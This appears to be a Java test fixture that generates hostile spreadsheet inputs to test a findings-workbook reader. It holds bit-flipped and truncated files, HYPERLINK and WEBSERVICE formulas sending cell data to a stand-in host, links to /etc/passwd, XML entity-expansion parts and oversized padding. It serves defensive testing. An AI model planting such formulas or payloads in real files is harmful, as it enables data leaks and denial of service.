package clearbed.strangers;

import static java.nio.charset.StandardCharsets.UTF_8;

import clearbed.read.HostileFiles;
import clearbed.strangers.Attempt.Wanted;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Hyperlink;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** Findings workbooks that come back from strangers. */
final class HostileWorkbooks {
  private static final int FLIPS = 24;
  private static final int CUTS = 25;

  /** What calls for something elsewhere, or runs it, once a spreadsheet program opens the file. */
  private static final List<String> FORMULAS =
      List.of(
          "HYPERLINK(\"http://x.invalid/?\"&A1,\"see\")",
          "WEBSERVICE(\"http://x.invalid/\")",
          "1+1",
          "SUM(A1:A9)",
          "INDIRECT(\"A1\")",
          "IF(A1=\"\",\"\",HYPERLINK(\"file:///etc/passwd\"))");

  private HostileWorkbooks() {}

  /**
   * @param log a findings workbook as we write it
   */
  static List<Attempt> all(byte[] log) throws IOException {
    List<Attempt> out = new ArrayList<>();
    Random random = new Random(5);
    for (int i = 0; i < FLIPS; i++) {
      byte[] copy = log.clone();
      for (int n = 1 << i % 8; n > 0; n--)
        copy[random.nextInt(copy.length)] ^= (byte) (1 << random.nextInt(8));
      out.add(carried("damaged logs", "flip-" + i, Wanted.ANSWER, () -> copy));
    }
    for (int i = 1; i <= CUTS; i++) {
      byte[] copy = Arrays.copyOf(log, (int) ((long) log.length * (75 + i) / 101));
      out.add(carried("damaged logs", "cut-" + i, Wanted.NAMED, () -> copy));
    }
    byte[] changed = DamagedDocuments.changed(log, "A118.15", "A118.99");
    out.add(carried("damaged logs", "changed behind its checksum", Wanted.NAMED, () -> changed));
    for (String sheet : List.of("Questions", "Findings", "Summary", "Documents", "Tile by check"))
      for (String formula : FORMULAS)
        out.add(
            carried(
                "formulas and links in logs",
                sheet + " " + formula,
                Wanted.ANSWER,
                () -> typed(log, sheet, cell -> cell.setCellFormula(formula))));
    for (String address :
        List.of(
            "http://x.invalid/", "file:///etc/passwd", "mailto:a@x.invalid", "\\\\x.invalid\\a"))
      for (String sheet : List.of("Questions", "Findings"))
        out.add(
            carried(
                "formulas and links in logs",
                sheet + " link " + address,
                Wanted.ANSWER,
                () -> typed(log, sheet, cell -> link(cell, address))));
    for (String words : HostileDocuments.SPEAKING)
      out.add(
          carried(
              "formulas and links in logs",
              "typed " + words,
              Wanted.ANSWER,
              () -> typed(log, "Questions", cell -> cell.setCellValue(words))));
    out.add(
        carried(
            "formulas and links in logs", "links to workbooks", Wanted.ANSWER, () -> linked(log)));
    out.add(carried("formulas and links in logs", "own sheet", Wanted.ANSWER, () -> ownSheet(log)));
    out.add(carried("formulas and links in logs", "names", Wanted.ANSWER, () -> named(log)));
    out.add(carried("large logs", "a part of 1 GB", Wanted.ANSWER, () -> padded(log, 1 << 10)));
    out.add(carried("large logs", "a part of 200 MB", Wanted.ANSWER, () -> padded(log, 200)));
    out.add(
        carried("large logs", "shared strings of 300 MB", Wanted.ANSWER, () -> strings(log, 300)));
    for (int rows : new int[] {10_000, 100_000})
      for (String sheet : List.of("Questions", "Findings", "Summary"))
        out.add(
            carried(
                "large logs",
                rows + " rows in " + sheet,
                Wanted.ANSWER,
                () -> rows(log, sheet, rows)));
    out.add(carried("foreign logs", "a schedule", Wanted.NAMED, () -> foreign()));
    out.add(carried("foreign logs", "a text", Wanted.NAMED, () -> "log".getBytes(UTF_8)));
    out.add(carried("foreign logs", "nothing", Wanted.NAMED, () -> new byte[0]));
    for (String part :
        List.of("xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml", "[Content_Types].xml"))
      for (String text :
          List.of("", "<a/>", HostileFiles.laughs() + "<a>&e29;</a>", "<a".repeat(1000)))
        out.add(
            carried(
                "damaged logs",
                part + " is " + text.length(),
                Wanted.NAMED,
                () -> HostileFiles.part(log, part, x -> text)));
    return out;
  }

  private static Attempt carried(String kind, String name, Wanted wanted, Attempt.Content content) {
    return new Attempt(
        kind,
        name,
        wanted,
        (good, folder) -> {
          Path file = Files.write(folder.resolve("earlier.xlsx"), content.bytes());
          return List.of("check", good.toString(), "--carry", file.toString());
        });
  }

  private interface Typing {
    void into(Cell cell);
  }

  private interface Change {
    void in(XSSFWorkbook book);
  }

  private static byte[] edited(byte[] log, Change change) throws IOException {
    try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(log))) {
      change.in(book);
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      book.write(out);
      return out.toByteArray();
    }
  }

  /** In the column of answers, and in one of their own. */
  private static byte[] typed(byte[] log, String sheet, Typing typing) throws IOException {
    return edited(
        log,
        book -> {
          Row row = book.getSheet(sheet).getRow(1);
          for (int column : new int[] {7, row.getLastCellNum() + 2}) {
            Cell cell = row.getCell(column, Row.MissingCellPolicy.CREATE_NULL_AS_BLANK);
            typing.into(cell);
          }
        });
  }

  private static void link(Cell cell, String address) {
    HyperlinkType type =
        address.startsWith("mailto")
            ? HyperlinkType.EMAIL
            : address.startsWith("http") ? HyperlinkType.URL : HyperlinkType.FILE;
    Hyperlink link = cell.getSheet().getWorkbook().getCreationHelper().createHyperlink(type);
    try {
      link.setAddress(address);
    } catch (IllegalArgumentException noUri) {
      link.setAddress("http://x.invalid/share");
    }
    cell.setCellValue("see");
    cell.setHyperlink(link);
  }

  /** A formula that takes its value from another workbook. */
  private static byte[] linked(byte[] log) throws IOException {
    return edited(
        log,
        book -> {
          try (XSSFWorkbook other = new XSSFWorkbook()) {
            other.createSheet("Rates").createRow(0).createCell(0).setCellValue(1);
            book.linkExternalWorkbook("http://x.invalid/rates.xlsx", other);
            Row row = book.getSheet("Questions").getRow(1);
            row.createCell(7).setCellFormula("'[http://x.invalid/rates.xlsx]Rates'!A1");
          } catch (IOException e) {
            throw new IllegalStateException(e);
          }
        });
  }

  private static byte[] ownSheet(byte[] log) throws IOException {
    return edited(
        log,
        book -> {
          XSSFSheet own = book.createSheet("Rates");
          for (int i = 0; i < FORMULAS.size(); i++)
            own.createRow(i).createCell(0).setCellFormula(FORMULAS.get(i));
          link(own.createRow(20).createCell(0), "http://x.invalid/");
        });
  }

  private static byte[] named(byte[] log) throws IOException {
    return edited(
        log,
        book -> {
          var name = book.createName();
          name.setNameName("call");
          name.setRefersToFormula("WEBSERVICE(\"http://x.invalid/\")");
          book.getSheet("Questions").getRow(1).createCell(7).setCellFormula("call");
        });
  }

  private static byte[] rows(byte[] log, String sheet, int count) throws IOException {
    return edited(
        log,
        book -> {
          XSSFSheet rows = book.getSheet(sheet);
          int from = rows.getLastRowNum() + 1;
          for (int i = 0; i < count; i++) {
            Row row = rows.createRow(from + i);
            row.createCell(0).setCellValue(i);
            row.createCell(7).setCellValue("typed " + i);
          }
        });
  }

  /** Blanks after the rows of the first sheet. */
  private static byte[] padded(byte[] log, int megabytes) throws IOException {
    return streamed(log, "xl/worksheets/sheet1.xml", megabytes, " ".repeat(1 << 20), "");
  }

  private static byte[] strings(byte[] log, int megabytes) throws IOException {
    String item = "<si><t>" + "x".repeat(1000) + "</t></si>";
    return streamed(
        log, "xl/sharedStrings.xml", megabytes, item.repeat((1 << 20) / item.length()), "</sst>");
  }

  private static byte[] streamed(byte[] zip, String name, int times, String piece, String end)
      throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip));
        ZipOutputStream out = new ZipOutputStream(bytes)) {
      for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
        out.putNextEntry(new ZipEntry(e.getName()));
        String text = new String(in.readAllBytes(), java.nio.charset.StandardCharsets.ISO_8859_1);
        boolean padded = e.getName().equals(name);
        String kept = padded && !end.isEmpty() ? text.replace(end, "") : text;
        out.write(kept.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        for (int i = 0; padded && i < times; i++) out.write(piece.getBytes(UTF_8));
        if (padded) out.write(end.getBytes(UTF_8));
      }
    }
    return bytes.toByteArray();
  }

  private static byte[] foreign() throws IOException {
    try (InputStream in =
        Files.newInputStream(Path.of("sample-specs/draft/A-651-tile-schedule.xlsx"))) {
      return in.readAllBytes();
    }
  }
}
